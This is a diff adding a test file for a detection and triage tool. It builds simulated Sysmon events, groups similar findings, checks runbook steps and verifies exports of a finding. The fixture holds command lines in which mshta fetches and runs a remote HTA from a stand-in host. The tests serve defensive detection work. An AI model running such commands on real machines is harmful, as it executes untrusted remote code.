@@ -1,0 +1,139 @@
+import { mkdtemp, rm } from 'node:fs/promises';
+import os from 'node:os';
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { z } from 'zod';
+import { findingDetail, runbookView } from '../contracts/findings';
+import { addComment, setFlag } from '../storage/annotations';
+import { closeStorage, pool } from '../storage/client';
+import { createTestDatabase, type TestDatabase } from '../storage/testDatabase';
+import { giveVerdict } from './decideFinding';
+import { exportFinding } from './exports/exportFinding';
+import { stixBundleShape } from './exports/testStixShapes';
+import { readFinding } from './readFinding';
+import { readRunbook } from './readRunbook';
+import { importWhole } from './testImports';
+import { type TestRecord, toLines } from './testRecords';
+import { connection, file, query, quiet, start } from './testSysmon';
+
+let database: TestDatabase;
+let spoolDir: string;
+let before: string | undefined;
+
+/** mshta runs a remote HTA, writes a file and calls out. */
+function chain(host: string, line: string): readonly TestRecord[] {
+  return [
+    ...quiet(host, '2026-11-20T08:00', 12),
+    start(host, '2026-11-20T09:00:00', 1, 'C:\\Windows\\System32\\mshta.exe', line),
+    query(host, '2026-11-20T09:00:01', 1, 'cdn.example.net', '198.51.100.7'),
+    connection(host, '2026-11-20T09:00:02', 1, '198.51.100.7'),
+    file(host, '2026-11-20T09:00:03', 1, 'C:\\Users\\anna\\AppData\\Local\\Temp\\run.js'),
+    ...quiet(host, '2026-11-20T09:10', 12),
+  ];
+}
+
+beforeAll(async () => {
+  spoolDir = await mkdtemp(path.join(os.tmpdir(), 'sequela-spool-'));
+  before = process.env.DATABASE_URL;
+  database = await createTestDatabase();
+  process.env.DATABASE_URL = database.url;
+  const line = 'mshta "https://cdn.example.net/a b.hta" (x or *)';
+  await importWhole(
+    toLines([
+      ...chain('WS1', line),
+      ...chain('WS2', line),
+      ...chain('WS3', 'mshta https://cdn.example.net/other.hta'),
+    ]),
+    'three.json',
+    spoolDir,
+  );
+});
+afterAll(async () => {
+  await closeStorage();
+  if (before === undefined) delete process.env.DATABASE_URL;
+  else process.env.DATABASE_URL = before;
+  await database.drop();
+  await rm(spoolDir, { recursive: true, force: true });
+});
+
+async function findingOn(host: string): Promise<string> {
+  const { rows } = await pool().query<{ id: string }>(
+    `SELECT f.id FROM findings f JOIN hosts h ON h.id = f.host_id WHERE lower(h.name) = lower($1) AND f.analytic = 'AN1397'`,
+    [host],
+  );
+  return rows[0]?.id ?? '';
+}
+
+describe('findings like one', () => {
+  it('share images, root and destination, with what people said of them', async () => {
+    await giveVerdict(await findingOn('WS2'), { verdict: 'benign_true_positive', reason: 'a test' }, 'anna');
+    const detail = findingDetail.parse(await readFinding(await findingOn('WS1')));
+    expect(detail.similarTotal).toBe(2);
+    const other = detail.similar.find(({ host }) => host.toLowerCase() === 'ws2');
+    expect(other).toMatchObject({
+      because: ['shape', 'root', 'destination'],
+      destination: '198.51.100.7',
+      verdict: 'benign_true_positive',
+      verdictBy: 'anna',
+      verdictReason: 'a test',
+    });
+  });
+
+  it('are none without anything in common', async () => {
+    const id = await findingOn('WS3');
+    await pool().query(`UPDATE findings SET shape = 'x', root = NULL, destinations = '{}' WHERE id = $1`, [
+      id,
+    ]);
+    expect((await readFinding(id)).similarTotal).toBe(0);
+  });
+});
+
+describe('the runbook of a finding', () => {
+  it('is answered from the events of its processes, of its host and of the others', async () => {
+    const { steps } = runbookView.parse(await readRunbook(await findingOn('WS1')));
+    const step = (words: RegExp) => steps.find(({ text }) => words.test(text));
+    expect(step(/what its processes wrote/i)).toMatchObject({ state: 'answered', total: 1 });
+    expect(step(/what its processes wrote/i)?.events[0]?.text).toMatch(/^mshta\.exe wrote .*run\.js$/);
+    expect(step(/same command line/)).toMatchObject({ state: 'answered', total: 1 });
+    expect(step(/same command line/)?.answer).toMatch(/^1 event on 1 other host: ws2\.$/i);
+    expect(step(/same destination/)?.answer).toMatch(/on 2 other hosts: /);
+    expect(step(/Fetch the HTA/)).toMatchObject({ state: 'person', answer: null, query: null });
+  });
+
+  it('says of nothing found that it could not have been seen, where that is so', async () => {
+    const { steps } = await readRunbook(await findingOn('WS1'));
+    const persistence = steps.find(({ text }) => /persistence/.test(text));
+    expect(persistence).toMatchObject({ state: 'blind', total: 0 });
+    expect(persistence?.answer).toMatch(/registry_set/);
+  });
+});
+
+describe('the documents of a finding', () => {
+  it('are valid, tell what analysts noted, and are the same bytes each time', async () => {
+    const id = await findingOn('WS1');
+    const detail = await readFinding(id);
+    const event = detail.stages.flatMap(({ events }) => events)[0]?.eventId ?? '';
+    await setFlag(event, true, 'ben');
+    await addComment(event, 'seen before', 'ben');
+
+    const stix = await exportFinding(id, 'stix');
+    expect(stixBundleShape.safeParse(JSON.parse(stix.content)).error?.issues ?? []).toEqual([]);
+    const lines = (await exportFinding(id, 'timesketch')).content.trimEnd().split('\n');
+    const line = z.looseObject({
+      message: z.string(),
+      datetime: z.string(),
+      timestamp_desc: z.string(),
+      tag: z.array(z.string()),
+    });
+    const read = lines.map((text) => line.parse(JSON.parse(text)));
+    expect(read.some(({ tag }) => tag.includes('flagged'))).toBe(true);
+    for (const format of ['markdown', 'html'] as const) {
+      const { content } = await exportFinding(id, format);
+      expect(content).toContain('seen before');
+      expect(content).toContain('three.json');
+      expect(content).toMatch(/on 1 other host/);
+    }
+    for (const format of ['markdown', 'html', 'json', 'stix', 'timesketch'] as const)
+      expect(await exportFinding(id, format), format).toEqual(await exportFinding(id, format));
+  });
+});
